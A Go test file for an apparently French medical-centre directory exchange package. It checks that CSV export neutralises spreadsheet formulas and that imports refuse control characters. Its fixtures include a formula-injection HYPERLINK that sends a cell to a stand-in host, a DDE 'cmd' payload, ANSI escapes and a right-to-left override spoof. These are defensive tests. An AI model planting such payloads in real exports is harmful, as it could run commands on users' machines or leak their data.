package exchange

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

// Issue 13, case 2: a CSV export never writes a cell a spreadsheet would
// run as a formula, and the import reads its own output back unchanged.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	_, d, ps := parseResolve("annuaire.csv", goodCSV)
	if ps.Errors() > 0 {
		t.Fatal(ps)
	}
	hostile := map[string]*string{
		`=HYPERLINK("http://x.example/?"&A1;"cliquez")`: &d.Centres[0].Name,
		`+cmd|' /C calc'!A0`:                            &d.Centres[0].Address,
		`-2+3`:                                          &d.Centres[0].Source,
		`@SUM(1+1)`:                                     &d.Centres[0].CityLabel,
		`'=déjà neutralisé`:                             &d.Centres[0].PosNote,
		`'texte qui commence par une apostrophe`:        &d.Centres[0].ContactSource,
	}
	for v, dst := range hostile {
		*dst = v
	}
	var b bytes.Buffer
	if _, err := WriteCSV(&b, FromDirectory(d)); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), utf8BOM)))
	cr.Comma = ';'
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("column %s: %q would run as a formula", rows[0][i], cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `'+cmd|`, `'-2+3`, `'@SUM(1+1)`, `''=déjà neutralisé`, `;-0,55443;`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("%q not in the export:\n%s", want, b.String())
		}
	}
	_, back, ps := parseResolve("annuaire.csv", b.String())
	if ps.Errors() > 0 {
		t.Fatalf("the import refuses its own export:\n%v", ps)
	}
	back.Version, back.Source = d.Version, d.Source
	if !reflect.DeepEqual(back.Centres, d.Centres) {
		t.Errorf("round trip changed the directory:\n%+v\n%+v", back.Centres[0], d.Centres[0])
	}
}

// Issue 13, case 4: control characters and bidirectional controls in any
// text of a directory are refused, each with its position.
func TestControlCharactersRefused(t *testing.T) {
	jsonFile := func(name string) string {
		return `{"format": "atlasri-annuaire/1", "version": "2027.1", "date": "2026-11-15", "indicative": false,
"centres": [{"id": "chu-angers", "name": "` + name + `", "sector": "public", "insee": "49007",
"source": "FINESS", "checked_on": "2026-11-01", "offers": [{"procedure": "vertebroplastie", "verified": true}]}]}`
	}
	csvFile := func(name string) string {
		return "id;nom;statut;insee;gestes_verifies;source;date_verification\n" +
			"chu-angers;" + name + ";public;49007;vertebroplastie;FINESS;01/11/2026\n"
	}
	tests := []struct {
		name, file, content, want string
	}{
		{"ANSI escape in JSON", "a.json", jsonFile(`CHU \u001b[31mrouge`), "annuaire.json, ligne 2, colonne 42 (name) : échappement de terminal (ESC) U+001B interdit (caractère 5) : retirez-le"},
		{"NUL in JSON", "a.json", jsonFile(`CHU\u0000`), "(name) : caractère nul U+0000 interdit (caractère 4)"},
		{"right-to-left override in JSON", "a.json", jsonFile("CHU \u202Egnp.exe"), "(name) : contrôle du sens d'écriture"},
		{"BEL in CSV", "a.csv", csvFile("CHU\a d'Angers"), "annuaire.csv, ligne 2, colonne B (nom) : sonnerie (BEL) U+0007 interdit (caractère 4) : retirez-le"},
		{"ANSI escape in CSV", "a.csv", csvFile("\x1b[2JCHU"), "annuaire.csv, ligne 2, colonne B (nom) : échappement de terminal (ESC) U+001B interdit (caractère 1)"},
		{"C1 control in CSV", "a.csv", csvFile("CHU\u009b31m"), "colonne B (nom) : caractère de contrôle U+009B interdit"},
		{"escape in a CSV header", "a.csv", strings.Replace(csvFile("CHU"), "nom", "nom\x1b", 1), "annuaire.csv, ligne 1, colonne B : échappement de terminal"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			name := "annuaire" + tt.file[1:]
			_, _, ps := parseResolve(name, tt.content)
			if ps.Errors() == 0 || !strings.Contains(ps.Error(), tt.want) {
				t.Errorf("problems:\n%v\nwant %q", ps, tt.want)
			}
		})
	}
}

// A C1 control that is a Windows-1252 character read as ISO-8859-1 (the
// national register's « L\u0092HOPITAL ») is read as that character, with
// a warning; the terminal's CSI is still refused (above).
func TestWindows1252LeftoversRepaired(t *testing.T) {
	csvFile := "id;nom;statut;insee;gestes_verifies;source;date_verification\n" +
		"chu-angers;CENTRE L\u0092HOPITAL \u0085 \u009cUVRE;public;49007;vertebroplastie;FINESS;01/11/2026\n"
	d, _, ps := parseResolve("annuaire.csv", csvFile)
	if ps.Errors() != 0 || len(d.Centres) != 1 {
		t.Fatalf("problems:\n%v", ps)
	}
	if got := d.Centres[0].Name; got != "CENTRE L’HOPITAL … œUVRE" {
		t.Errorf("name %q", got)
	}
	want := "annuaire.csv, ligne 2, colonne B (nom) : attention, caractère mal converti depuis Windows-1252 : U+0092 lu comme « ’ », U+0085 lu comme « … », U+009C lu comme « œ »"
	if !strings.Contains(ps.Error(), want) {
		t.Errorf("problems:\n%v\nwant %q", ps, want)
	}
}

// Issue 13, cases 5 and 13: a directory without centres is refused, and
// said so (not « date invalide "" »).
func TestEmptyDirectoryRefused(t *testing.T) {
	tests := []struct{ name, file, content, want string }{
		{"JSON", "annuaire.json", `{"format": "atlasri-annuaire/1", "version": "2027.1", "date": "2026-11-15", "indicative": false, "centres": []}`,
			"annuaire.json, ligne 1, colonne 109 (centres) : aucun centre : la liste « centres » est vide"},
		{"CSV header only", "annuaire.csv", "id;nom;statut;insee;gestes_verifies;source;date_verification\r\n",
			"annuaire.csv, ligne 2 : aucun centre : le fichier n'a que sa ligne d'en-tête"},
		{"CSV header and blank rows", "annuaire.csv", "id;nom;statut;insee;gestes_verifies;source;date_verification\r\n;;;;;;\r\n\r\n",
			"annuaire.csv, ligne 2 : aucun centre"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, ps := parseResolve(tt.file, tt.content)
			if ps.Errors() != 1 || !strings.HasPrefix(ps.Error(), tt.want) {
				t.Errorf("problems:\n%v\nwant %q", ps, tt.want)
			}
		})
	}
}
